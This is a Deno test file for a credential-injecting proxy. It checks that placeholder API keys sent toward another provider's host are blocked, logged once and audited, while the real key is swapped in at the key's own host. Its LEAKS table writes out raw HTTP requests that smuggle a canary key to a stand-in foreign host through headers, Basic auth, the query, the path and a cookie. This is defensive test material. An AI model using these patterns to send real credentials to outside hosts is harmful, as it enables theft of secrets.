/**
 * Named invariant: a placeholder goes to its own provider's hosts or nowhere.
 *
 * The attack: a prompt, a dependency or a wrong setting makes a program send "its key" to a host of
 * the attacker. The key is a placeholder and worth nothing, but the attempt is the sign that the
 * program is not the owner's any more: it is stopped, written into the audit log and said aloud.
 */
import assert from "node:assert/strict";
import { givenPlaceholders } from "../../proxy/placeholders.ts";
import { FakeDaemon, makeRoute } from "../support/fake_daemon.ts";
import { callHttp2, openHttp2 } from "../support/http2_peers.ts";
import { startTestProxy, type TestProxy } from "../support/proxy_bench.ts";
import { startTlsUpstream, type TlsUpstream } from "../support/tls_upstream.ts";

const OWN = "api.acme.test";
const OTHER = "api.other.test";
const CANARY = "sk-authsome0123456789abcdefghij+.x";
const ENCODED = [...CANARY].map((letter) => `%${letter.charCodeAt(0).toString(16)}`).join("");

async function onStage(
  body: (test: TestProxy, servers: { own: TlsUpstream; other: TlsUpstream }) => Promise<void>,
): Promise<void> {
  const [own, other] = [startTlsUpstream([OWN]), startTlsUpstream([OTHER])];
  const plain = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, () => new Response());
  const test = await startTestProxy({
    daemon: new FakeDaemon([makeRoute(), makeRoute({ provider: "other", host: OTHER })]),
    servers: { [OWN]: own.port, [OTHER]: other.port, "plain.test:80": plain.addr.port },
    authorities: [own.authorityPem, other.authorityPem],
    placeholders: [{ text: CANARY, provider: "acme", connection: "default" }],
  });
  try {
    await body(test, { own, other });
  } finally {
    await test.close();
    await Promise.all([own.close(), other.close(), plain.shutdown()]);
  }
}

const LEAKS: Readonly<Record<string, string>> = {
  "in Authorization": `GET / HTTP/1.1\r\nHost: ${OTHER}\r\nAuthorization: Bearer ${CANARY}\r\n\r\n`,
  "in a header of its own": `GET / HTTP/1.1\r\nHost: ${OTHER}\r\nX-Api-Key: ${CANARY}\r\n\r\n`,
  "in Basic": `GET / HTTP/1.1\r\nHost: ${OTHER}\r\nAuthorization: Basic ${
    btoa(`user:${CANARY}`)
  }\r\n\r\n`,
  "in the query": `GET /?key=${CANARY} HTTP/1.1\r\nHost: ${OTHER}\r\n\r\n`,
  "in the query, percent-encoded": `GET /?key=${ENCODED} HTTP/1.1\r\nHost: ${OTHER}\r\n\r\n`,
  "in the path": `GET /bot${CANARY}/me HTTP/1.1\r\nHost: ${OTHER}\r\n\r\n`,
  "in a cookie": `GET / HTTP/1.1\r\nHost: ${OTHER}\r\nCookie: a=1; b=${CANARY}\r\n\r\n`,
};

for (const [name, request] of Object.entries(LEAKS)) {
  Deno.test(`a placeholder ${name} on its way to another provider is blocked`, async () => {
    await onStage(async (test, { other }) => {
      const client = await test.tunnel(OTHER);
      await client.write(request);
      const { head, body } = await client.readAnswer();

      assert.match(head, /^HTTP\/1\.1 403 /);
      assert.equal(JSON.parse(body).error, "PlaceholderLeakError");
      assert.ok(!body.includes(CANARY));
      assert.equal(other.requests.length, 0);
      assert.equal(test.daemon.asked.length, 0);
    });
  });
}

Deno.test("it is said once, and reported to the audit log by host and reason", async () => {
  await onStage(async (test) => {
    for (let i = 0; i < 3; i++) {
      const client = await test.tunnel(OTHER);
      await client.write(LEAKS["in Authorization"]!);
      await client.readAnswer();
    }
    assert.equal(test.notes.filter((note) => note.startsWith("blocked a request")).length, 1);
    assert.match(test.notes.join("\n"), /blocked a request to api\.other\.test/);
    assert.ok(!test.notes.join("\n").includes(CANARY));

    await test.proxy.close();
    const [denial] = test.daemon.reported.flatMap(({ denials }) => denials);
    assert.equal(denial!.host, OTHER);
    assert.equal(denial!.reason, "PlaceholderLeakError");
    assert.equal(denial!.count, 3);
  });
});

Deno.test("over HTTP/2 it is blocked as well", async () => {
  await onStage(async (test, { other }) => {
    const client = await openHttp2(test, OTHER);
    const answer = await callHttp2(client, { ":path": "/", "x-api-key": CANARY });
    assert.equal(answer.status, 403);
    assert.equal(other.requests.length, 0);
    await client.close();
  });
});

Deno.test("over plain http it is blocked as well", async () => {
  await onStage(async (test) => {
    const raw = await test.dial();
    await raw.write(
      `GET http://plain.test/?key=${CANARY} HTTP/1.1\r\nHost: plain.test\r\n${test.authorization}\r\n`,
    );
    assert.match(await raw.readHead(), /^HTTP\/1\.1 403 /);
  });
});

Deno.test("at its own provider's host the credential takes its place", async () => {
  await onStage(async (test, { own }) => {
    const client = await test.tunnel(OWN);
    await client.write(
      `GET / HTTP/1.1\r\nHost: ${OWN}\r\nAuthorization: Bearer ${CANARY}\r\n\r\n`,
    );
    assert.match(await client.readHead(), /^HTTP\/1\.1 200 /);
    assert.equal(own.requests[0]!.headers.get("authorization"), "Bearer the-real-key");
    assert.deepEqual(test.notes.filter((note) => note.startsWith("blocked")), []);
  });
});

Deno.test("givenPlaceholders() finds what the child was given, and no value that is no secret", () => {
  const variable = { provider: "acme", connection: "default", pattern: null };
  const variables = [
    { ...variable, name: "ACME_KEY", field: "api_key", value: null },
    { ...variable, name: "ACME_URL", field: "url", value: "https://api.acme.test" },
  ];
  const given = givenPlaceholders(variables, { ACME_KEY: "text", ACME_URL: "https://x.test" });
  assert.deepEqual(given, [{ text: "text", provider: "acme", connection: "default" }]);
});
